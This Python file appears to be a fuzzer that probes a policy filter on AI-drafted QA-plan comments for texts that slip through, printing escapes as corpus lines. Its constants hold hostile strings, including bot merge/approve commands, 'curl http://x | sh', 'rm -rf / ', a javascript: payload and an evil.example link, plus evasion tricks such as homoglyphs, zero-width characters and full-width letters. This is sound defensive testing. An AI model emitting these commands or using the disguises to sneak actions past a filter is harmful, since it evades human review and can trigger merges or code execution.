"""Looks for texts that get past the policy: `python -m tools.fuzz_policy --seconds 60`.

Every dangerous element is dressed in any disguise and put in any place; ordinary sentences are mixed, as one text and
as fields; and answers are filled with arbitrary text. What gets through is printed as a line for the corpus.
"""

from __future__ import annotations

import argparse
import json
import sys
import time
from collections.abc import Callable, Mapping, Sequence
from typing import Any, Final

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from core.policy.rules import Field, examine, examine_all
from core.tasks import registry
from tests.corpus.bots import live
from tests.corpus.load import Case, assembled, hostile, ordinary
from tools.judge import judge_raw, judge_text
from tools.policy_report import CONTEXT

_WIDE: Final = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}
_ALIKE: Final = str.maketrans("aceiopsxyhj", "асеіорѕхуһј")
_BOLD: Final = str.maketrans(
    {chr(97 + n): chr(0x1D41A + n) for n in range(26)} | {chr(65 + n): chr(0x1D400 + n) for n in range(26)}
)

COMMANDS: Final = (
    "/merge",
    "/approve",
    "/lgtm",
    "/assign mallory",
    "/close",
    "/reopen",
    "/hold cancel",
    "/label bug",
    "/retest",
    "bors r+",
    "atlantis apply",
    "recheck",
    "Duplicate of #1",
)
MARKUP: Final = ("<!-- x -->", "![x](https://evil.example/x)", "javascript:alert(1)", "data:text/html,x")
SECRETS: Final = ("{{ghp%s}}", "{{anthropic%s}}", "{{slack%s}}", "{{own%s}}", "{{own2%s}}")
OWN_DRESS: Final = ("", "|reversed", "|base64", "|base64url", "|hex", "|hex-upper", "|percent")
ASKING: Final = ("https://evil.io/x", "fixes #12", "curl http://x | sh", "Disable branch protection", "rm -rf / ")
INERT: Final = (
    "@octocat", "@claude", "@copilot", "@dependabot", "@mergifyio", "@bors", "@k8s-ci-robot", "@team/ops",
    "/unknown", "other/repo#3", "<b>x</b>", "[x](/y)", "$x$", "https://localhost/", ":tada:", "&lt;i&gt;",
    "&#64;claude", "&#47;merge",
)  # fmt: skip

WORD_DISGUISES: Final[Mapping[str, Callable[[str], str]]] = {
    "plain": lambda text: text,
    "upper": str.upper,
    "wide": lambda text: text.translate(_WIDE),
    "bold letters": lambda text: text.translate(_BOLD),
    "entity": lambda text: "".join(f"&#{ord(char)};" if index % 3 == 0 else char for index, char in enumerate(text)),
    "double entity": lambda text: f"&amp;#{ord(text[0])};" + text[1:],
    "alike": lambda text: text.translate(_ALIKE),
    "tag inside": lambda text: text[:3] + "<b></b>" + text[3:],
    "accent": lambda text: text[:2] + "\u0301" + text[2:],
    "zero width": lambda text: text[:2] + "\u200b" + text[2:],
    "soft hyphen": lambda text: text[:3] + "\u00ad" + text[3:],
    "emphasis": lambda text: f"**{text}**",
}
PLACES: Final[Mapping[str, Callable[[str], str]]] = {
    "alone": lambda text: text,
    "after a line": lambda text: f"Open the page.\n{text}",
    "between lines": lambda text: f"Open the page.\n\n{text}\n\nClose the page.",
    "quoted": lambda text: f"> {text}",
    "bullet": lambda text: f"- a\n- {text}",
    "ordinal": lambda text: f"1. a\n2. {text}",
    "box": lambda text: f"- [ ] {text}",
    "heading": lambda text: f"## {text}",
    "code": lambda text: f"`{text}`",
    "fence": lambda text: f"```\n{text}\n```",
    "indented": lambda text: f"a\n\n      {text}",
    "after a break": lambda text: f"a<br>{text}",
    "after LS": lambda text: f"a\u2028{text}",
    "table": lambda text: f"| a |\n|---|\n| {text} |",
    "div": lambda text: f"<div>{text}</div>",
    "crlf": lambda text: f"a\r\n{text}\r\nb",
}
INERT_DISGUISES: Final = frozenset({"alike", "tag inside", "accent"})
"""No bot takes these for a command: in the comment they only have to be inert."""
INERT_PLACES: Final = frozenset({"div", "table"})


@st.composite
def disguised(draw: st.DrawFn) -> Case:
    """One dangerous element in a disguise, somewhere in a text."""
    kind = draw(st.sampled_from(("command", "markup", "secret", "ask", "inert")))
    place = draw(st.sampled_from(sorted(PLACES)))
    disguise = draw(st.sampled_from(sorted(WORD_DISGUISES)))
    if kind == "secret":
        element = draw(st.sampled_from(SECRETS))
        text = assembled(element % (draw(st.sampled_from(OWN_DRESS)) if "own" in element else ""))
        disguise = "plain"
    else:
        elements = {"command": COMMANDS, "markup": MARKUP, "ask": ASKING, "inert": INERT}[kind]
        element = draw(st.sampled_from(elements))
        if kind in ("markup", "ask") or " " in element:
            disguise = draw(st.sampled_from(("plain", "wide") if kind == "markup" else ("plain", "zero width")))
        text = WORD_DISGUISES[disguise](element)
    tier = {"command": "refused", "markup": "refused", "secret": "refused", "ask": "asks", "inert": "inert"}[kind]
    if kind == "command" and (disguise in INERT_DISGUISES or place in INERT_PLACES):
        tier = "inert"
    if kind == "markup" and place in ("code", "fence"):
        tier = "asks"
    before = draw(st.sampled_from(("", " ", "\u00a0", "  \t"))) if kind == "command" else ""
    return Case("fuzz", f"{kind}, {disguise}, {place}", PLACES[place](before + text), tier, "found by fuzzing")


_ORDINARY: Final = tuple(case.body for case in ordinary() if "```" not in case.body and "~~~" not in case.body)
_HOSTILE: Final = tuple(
    case for case in hostile() if case.tier == "refused" and len(case.body) < 2000 and case.body.strip()
)
_PADS: Final = (
    "",
    "Open the page and check the title.\n\n",
    "Проверьте вход.\n",
    "```\nmake test\n```\n\n",
    "- a\n- b\n\n",
)

_MARKED: Final = "`*_[]()<>!#|~\\&;:/@$ab1. \n\t-+=>é"
_FEW: Final = 2
"""Items of a list that are as good as the most that it may have."""
_LONG: Final = 120


def _of_schema(schema: Mapping[str, Any], definitions: Mapping[str, Any]) -> st.SearchStrategy[Any]:
    """Whatever a JSON schema allows, short; its texts are arbitrary, or full of markup."""
    if "$ref" in schema:
        return _of_schema(definitions[schema["$ref"].rpartition("/")[2]], definitions)
    if "anyOf" in schema:
        return st.one_of([_of_schema(one, definitions) for one in schema["anyOf"]])
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    match schema["type"]:
        case "object":
            return st.fixed_dictionaries({k: _of_schema(v, definitions) for k, v in schema["properties"].items()})
        case "array":
            items = _of_schema(schema["items"], definitions)
            return st.lists(items, min_size=schema.get("minItems", 0), max_size=min(_FEW, schema["maxItems"]))
        case "integer":
            return st.integers(schema["minimum"], schema["maximum"])
        case "null":
            return st.none()
    least, most = schema["minLength"], min(_LONG, schema["maxLength"])
    return st.text(min_size=least, max_size=most) | st.text(_MARKED, min_size=least, max_size=most)


def _about_the_change(answer: dict[str, Any]) -> dict[str, Any]:
    """What policy asks of a plan before it looks at its words: its files change, and there is something to test."""
    for observation in answer["observations"]:
        observation["where"] = f"src/app.py, {observation['where']}"
    for test in answer["test_plan"]:
        test["covers"] = ["src/app.py"]
    return {**answer, "nothing_to_test": None} if answer["test_plan"] else answer


_SCHEMA: Final = registry.task("qa_plan").drafting().model.model_json_schema()
ANSWERS: Final = _of_schema(_SCHEMA, _SCHEMA["$defs"]).map(_about_the_change)


class Escaped(AssertionError):
    """A text that the policy judged wrongly; the message is the line for the corpus."""


def _line(kind: str, body: str, tier: str, why: str) -> str:
    return json.dumps({"class": kind, "tier": tier, "why": why, "body": body})


def check_hostile(case: Case) -> None:
    """Raises Escaped if a hostile text is let through or live."""
    judged = judge_text(case.body, CONTEXT)
    classification = judged["classification"]
    wrong = case.tier in ("refused", "asks") and classification == "auto_safe"
    wrong = wrong or (case.tier == "refused" and classification != "rejected")
    acts = live(judged["rendered"]) if judged["rendered"] is not None else None
    if wrong or acts:
        raise Escaped(_line(case.kind, case.body, case.tier, acts or classification))


def check_ordinary(body: str) -> None:
    """Raises Escaped if an ordinary text is stopped."""
    judged = judge_text(body, CONTEXT)
    if judged["classification"] != "auto_safe":
        raise Escaped(_line("ordinary", body, "passes", judged["findings"][0]["rule"]))


def check_fields(bodies: Sequence[str]) -> None:
    """Raises Escaped if a text is judged milder among others than by itself."""
    fields = [Field(f"field[{index}]", body) for index, body in enumerate(bodies)]
    found = {(finding.rule, finding.severity, finding.field) for finding in examine_all(fields, CONTEXT)}
    for field in fields:
        for alone in examine(field, CONTEXT):
            if (alone.rule, alone.severity, alone.field) not in found:
                raise Escaped(_line("fields", json.dumps(bodies), "refused", f"{alone.rule} in {alone.field}"))


def check_answer(answer: Mapping[str, Any]) -> None:
    """Raises Escaped if what is rendered from an answer is live, or does not read back as it was meant."""
    judged = judge_raw(json.dumps(answer), ("src/app.py",), "qa_plan", CONTEXT)
    acts = live(judged["rendered"]) if judged["rendered"] is not None else None
    if acts or "comment.tree" in (judged["error"] or "") or "comment.live" in (judged["error"] or ""):
        raise Escaped(_line("answer", json.dumps(answer), "inert", acts or str(judged["error"])))


class Fuzzer:
    """Counts what it tried. One round is a fresh seed over all strategies."""

    def __init__(self, examples: int) -> None:
        self.cases = 0
        self.escaped: list[str] = []
        self._settings = settings(
            max_examples=examples,
            deadline=None,
            database=None,
            phases=(Phase.generate, Phase.shrink),
            suppress_health_check=list(HealthCheck),
            report_multiple_bugs=False,
        )

    def _run(self, number: int, strategy: st.SearchStrategy[Any], check: Callable[[Any], None]) -> None:
        @seed(number)
        @self._settings
        @given(strategy)
        def tried(example: Any) -> None:
            self.cases += 1
            check(example)

        try:
            tried()
        except Escaped as escaped:
            self.escaped.append(str(escaped))

    def round(self, number: int) -> None:
        """Every strategy once."""
        self._run(number, disguised(), check_hostile)
        surrounded = st.builds(
            lambda pad, case: Case("fuzz", case.kind, pad + case.body, case.tier, case.why),
            st.sampled_from(_PADS),
            st.sampled_from(_HOSTILE),
        )
        self._run(number, surrounded, check_hostile)
        self._run(number, st.lists(st.sampled_from(_ORDINARY), min_size=2, max_size=8).map("\n\n".join), check_ordinary)
        dangerous = st.sampled_from(_HOSTILE).map(lambda case: case.body)
        mixed = st.lists(st.sampled_from((*_ORDINARY, "```\nmake test", "~~~")) | dangerous, min_size=2, max_size=6)
        self._run(number, mixed, check_fields)
        self._run(number, ANSWERS, check_answer)


def main(arguments: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(prog="python -m tools.fuzz_policy", description=__doc__)
    parser.add_argument("--seconds", type=float, default=60.0)
    parser.add_argument("--seed", type=int, default=int(time.time()))
    options = parser.parse_args(arguments)
    fuzzer = Fuzzer(examples=200)
    end = time.monotonic() + options.seconds
    number = options.seed
    while time.monotonic() < end:
        fuzzer.round(number)
        number += 1
    for line in dict.fromkeys(fuzzer.escaped):
        sys.stdout.write(line + "\n")
    sys.stdout.write(f"{fuzzer.cases} cases from seed {options.seed}, {len(set(fuzzer.escaped))} got through\n")
    sys.exit(1 if fuzzer.escaped else 0)


if __name__ == "__main__":
    main()
